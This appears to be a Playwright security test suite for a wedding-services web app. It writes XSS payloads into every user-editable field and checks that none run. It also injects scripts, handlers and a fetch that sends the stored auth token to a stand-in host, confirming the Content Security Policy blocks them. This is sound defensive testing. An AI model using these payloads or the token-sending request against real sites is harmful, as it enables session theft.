import { expect, type Page } from '@playwright/test'
import { addDays, zagrebDayOf } from '#contract/calendar-day.ts'
import { API_BASE, pages } from '#contract/paths.ts'
import type { Role } from '#contract/auth.ts'
import { storeSession, test } from '#test/browser.ts'
import { password } from './sign-in-form.ts'

test.describe.configure({ timeout: 240_000 })

const elsewhere = '//drugdje.test'
/** Closes each context into which a page could put a text, and would run in each. */
const hostile = `"'><svg onload=alert(1)><img src=${elsewhere} onerror=alert(2)></script><script>alert(3)</script>`
/** Adds what only a template or a list of links would interpret. */
const hostileWords = `${hostile} {{7*7}} \${alert(4)} javascript:alert(5) https://drugdje.test/"onmouseover="alert(6)`

type Session = Parameters<typeof storeSession>[1]

/** Calls of the account, whatever the page's session. */
function callsOf(page: Page, token: string) {
  return async (method: 'GET' | 'POST' | 'PUT', path: string, data?: unknown): Promise<{ data: { id: number } }> => {
    const headers = { authorization: `Bearer ${token}` }
    const answer = await page.request.fetch(API_BASE + path, { method, headers, data })
    expect(answer.ok(), `${method} ${path}: ${await answer.text()}`).toBe(true)
    return (answer.status() === 204 ? { data: { id: 0 } } : await answer.json()) as { data: { id: number } }
  }
}

async function post<T>(page: Page, path: string, data: unknown): Promise<T> {
  const answer = await page.request.post(API_BASE + path, { data })
  expect(answer.ok(), `${path}: ${await answer.text()}`).toBe(true)
  return (await answer.json()) as T
}

const register = (page: Page, role: Role, email: string, more = {}) =>
  post<Session>(page, '/register', {
    role,
    email,
    password,
    password_confirmation: password,
    name: hostile.slice(0, 100),
    ...more,
  })

/** The elements with which the page would run something: with a handler, or a link to a script. */
const run = (page: Page) =>
  page.evaluate(() => {
    const isHandler = ({ name }: Attr) => /^on/i.test(name)
    const isScriptLink = (element: Element) =>
      /^\s*(javascript|data|vbscript):/i.test(element.getAttribute('href') ?? '')
    return [...document.querySelectorAll('*')]
      .filter((element) => [...element.attributes].some(isHandler) || isScriptLink(element))
      .map((element) => element.outerHTML.slice(0, 200))
  })

test('a text that would be markup or a script is read as it was written, on every page that shows it', async ({
  page,
  problems,
}, { testId, repeatEachIndex }) => {
  problems.allow(/was preloaded using link preload but not used within a few seconds/)
  const dialogs: string[] = []
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  const addressOf = (name: string) => `${name}-${testId}-${repeatEachIndex}@primjer.test`
  const company = { company_name: hostile.slice(0, 120), category_id: 11, city: hostile.slice(0, 80) }
  const owner = await register(page, 'professional', addressOf('tvrtka'), {
    ...company,
    description: hostileWords,
    website: `https://drugdje.test/${hostile}`,
  })
  const admin = await post<Session>(page, '/login', { email: 'admin@zauvijek.test', password: 'demo-zauvijek' })
  const couple = await register(page, 'couple', addressOf('par'))
  const [asOwner, asAdmin, asCouple] = [owner, admin, couple].map(({ token }) => callsOf(page, token)) as [
    ReturnType<typeof callsOf>,
    ReturnType<typeof callsOf>,
    ReturnType<typeof callsOf>,
  ]
  const id = owner.user.professional!.id // it has registered as one
  await asAdmin('POST', `/admin/professionals/${id}/approve`)
  const day = addDays(zagrebDayOf(new Date()), 40)
  await asOwner('PUT', `/professionals/${id}/packages`, {
    packages: [
      { name: hostile.slice(0, 80), price: 10, unit: 'total', description: hostile, includes: [hostile.slice(0, 120)] },
    ],
  })
  await asOwner('POST', '/events', { event_date: day, event_type: 'available', title: hostile, notes: hostile })
  await asOwner('POST', '/reply-templates', { title: hostile.slice(0, 80), body: hostileWords })
  await asOwner('POST', '/api-keys', { name: hostile.slice(0, 80), scope: 'read' })
  const webhook = { url: `https://drugdje.test/${hostile}`, events: ['lead.created'] }
  await asOwner('POST', '/webhooks', webhook)
  await asCouple('POST', '/favorites', { professional_id: id, note: hostileWords })
  const enquiry = { professional_id: id, event_date: addDays(day, 1), message: hostileWords }
  const lead = (await asCouple('POST', '/leads', enquiry)).data.id
  await asOwner('POST', `/leads/${lead}/messages`, { body: hostileWords })
  const offer = await asOwner('POST', `/leads/${lead}/offers`, {
    items: [{ label: hostile, quantity: 1, unit_price: 100 }],
    valid_until: day,
    vat: 'exempt',
    note: hostile,
    cancellation: hostile,
    issuer: hostile,
  })
  await asCouple('POST', `/leads/${lead}/report`, { reason: hostile })

  const offerPage = pages.offer(offer.data.id)
  const detail = pages.professional(id)
  const newest = '/?category_id=11&sort=newest'
  const walks: [Session | null, string[]][] = [
    [null, [newest, detail, `${pages.compare}?ids=1,${id}`, `/?city=${encodeURIComponent(hostile)}`]],
    [couple, [pages.favorites, pages.enquiries, pages.conversation(lead), offerPage, pages.profile, detail]],
    [
      owner,
      [
        pages.professionalProfile,
        pages.professionalCalendar,
        pages.professionalLeads,
        offerPage,
        pages.conversation(lead),
        pages.professionalKeys,
        pages.professionalWebhooks,
      ],
    ],
    [admin, [pages.adminProfessionals, pages.adminUsers, pages.adminLeadReports, pages.adminLog]],
  ]
  const found: string[] = []
  for (const [session, addresses] of walks) {
    if (session) await storeSession(page, session)
    for (const address of addresses) {
      await page.goto(address)
      await expect(page.getByRole('heading', { level: 1 }), address).toHaveCount(1)
      await expect(page.getByRole('main').locator('.animate-shimmer'), address).toHaveCount(0)
      found.push(...(await run(page)).map((html) => `${address}: ${html}`))
    }
  }
  await page.evaluate(() => localStorage.clear())
  await page.goto(newest)
  await page.getByRole('main').locator(`a[href^="${detail}"]`).first().click()
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(company.company_name)
  found.push(...(await run(page)))
  await asAdmin('POST', `/admin/professionals/${id}/reject`)
  expect([found, dialogs]).toEqual([[], []])
})

/** Inserts into the page everything that a mistake could let in, and returns what took effect. */
async function inject(page: Page): Promise<string[]> {
  return page.evaluate(async (foreign) => {
    const done: string[] = []
    Object.assign(window, { note: (how: string) => done.push(how) })
    const add = (html: string) => document.body.insertAdjacentHTML('beforeend', html)
    const script = document.createElement('script')
    script.textContent = 'note("an inline script")'
    document.body.append(script)
    add('<img src="/assets/none.png" onerror="note(\'a handler\')">')
    add('<a id="runs" href="javascript:note(\'a link\')">x</a>')
    document.querySelector<HTMLElement>('#runs')?.click()
    // A timer, since the browser's tools may do what the page may not.
    setTimeout(() => {
      // oxlint-disable-next-line typescript/no-implied-eval, no-new-func -- that it is refused is what is tested
      new Function('note("an evaluated text")')()
    })
    add(`<iframe src="${foreign}"></iframe><base href="${foreign}"><link rel="stylesheet" href="${foreign}/a.css">`)
    add(`<img src="${foreign}/a.png"><form id="sends" action="${foreign}"></form>`)
    document.querySelector<HTMLFormElement>('#sends')?.submit()
    await fetch(`${foreign}/?token=${localStorage.getItem('auth_token')}`).then(
      () => done.push('a request'),
      () => {},
    )
    await new Promise((later) => setTimeout(later, 300))
    if (!document.baseURI.startsWith(location.origin)) done.push('another base')
    return done
  }, `http:${elsewhere}`)
}

test('what is put into a page does not run, load or send anything', async ({ page, problems }) => {
  for (const expected of [/Content Security Policy/, /40[04]/, /'script-src' was not explicitly set/])
    problems.expect(expected)
  problems.allow(/request failed|request to another host|page error/)
  const sent: string[] = []
  page.on('response', (answer) => {
    if (answer.url().includes('drugdje')) sent.push(answer.url())
  })
  const addresses = [pages.home, pages.professional(1), pages.login(), '/nema-ove-stranice', '/api/docs', '/%zz']
  for (const address of addresses) {
    await page.goto(address)
    expect(await inject(page), address).toEqual([])
  }
  expect(sent).toEqual([])
})
